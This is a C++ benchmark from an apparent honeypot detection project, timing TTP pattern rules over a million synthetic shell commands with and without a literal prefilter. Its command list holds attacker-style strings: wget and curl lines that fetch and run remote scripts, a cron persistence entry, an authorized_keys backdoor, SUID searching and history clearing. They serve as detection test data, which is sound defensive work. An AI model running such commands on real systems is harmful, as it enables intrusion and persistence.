// ttp_commands_per_second: shell commands through every pattern rule of the shipped pack on one
// core, as the command lifter will run them — a mix shaped like what deckies see (most commands
// harmless or repeated reconnaissance, a few downloads, persistence and privilege steps). The
// reference figure is the same rules with their literals removed, so every expression runs on
// every command: what the prefilter saves.
#include <filesystem>
#include <random>
#include <string>
#include <vector>

#include "bench_support.h"
#include "ttp/pattern_matcher.h"
#include "ttp/rule_loader.h"

namespace {

using decnet::ttp::PatternMatcher;
using decnet::ttp::Rule;

std::vector<std::string> command_mix(std::size_t n) {
  static const char* kCommands[] = {
      "ls -la",
      "cd /tmp",
      "uname -a",
      "cat /proc/cpuinfo | grep name | head -n 1",
      "whoami",
      "id",
      "w",
      "ps aux",
      "free -m",
      "cat /etc/passwd",
      "echo hello",
      "pwd",
      "history",
      "df -h",
      "cd ~; ls",
      "top -bn1",
      "wget http://198.51.100.7/x.sh -O- | sh",
      "curl -s http://x.example/bot -o /tmp/.b; chmod +x /tmp/.b; /tmp/.b",
      "crontab -l",
      "(crontab -l; echo '* * * * * /tmp/.b') | crontab -",
      "echo ssh-rsa AAAAB3Nza x@y >> ~/.ssh/authorized_keys",
      "find / -perm -4000 -type f 2>/dev/null",
      "history -c",
      "sudo -l",
      "nproc",
      "cat /etc/os-release",
      "netstat -antp",
      "ip a",
      "cat .bash_history",
      "tar czf /tmp/x.tgz /etc",
      "chmod 777 /tmp/x",
      "busybox",
      "enable",
      "system",
      "shell",
      "sh",
      "/bin/busybox MIRAI",
  };
  std::mt19937 rng(7);
  std::vector<std::string> out;
  out.reserve(n);
  for (std::size_t i = 0; i < n; ++i) {
    std::string c = kCommands[rng() % std::size(kCommands)];
    if (rng() % 4 == 0) c += " " + std::to_string(rng() % 100000);  // arguments vary
    out.push_back(std::move(c));
  }
  return out;
}

double commands_per_second(const PatternMatcher& matcher, const std::vector<std::string>& mix,
                           std::size_t& hits) {
  const auto start = std::chrono::steady_clock::now();
  hits = 0;
  for (const auto& c : mix) hits += matcher.match_text("command", c).size();
  return static_cast<double>(mix.size()) / decnet::bench::seconds_since(start);
}

}  // namespace

int main() {
  const auto rules =
      decnet::ttp::load_rule_directory(std::filesystem::path(DECNET_SOURCE_DIR) / "rules" / "ttp");
  auto unfiltered = rules;
  for (auto& r : unfiltered) r.literals.clear();
  const PatternMatcher matcher(rules);
  const PatternMatcher everything(unfiltered);
  const auto mix = command_mix(1'000'000);
  std::size_t hits = 0, reference_hits = 0;
  commands_per_second(matcher, mix, hits);  // warm up
  const double ours = commands_per_second(matcher, mix, hits);
  const double reference = commands_per_second(everything, mix, reference_hits);
  if (hits != reference_hits) {
    std::fprintf(stderr, "bench_ttp: the prefilter changed what fired (%zu vs %zu)\n", hits,
                 reference_hits);
    return 1;
  }
  decnet::bench::report("ttp_commands_per_second", ours, "commands/s");
  decnet::bench::report("ttp_commands_per_second_no_prefilter", reference, "commands/s");
  decnet::bench::report("ttp_rule_hits_per_command", static_cast<double>(hits) / mix.size(),
                        "tags");
  return 0;
}
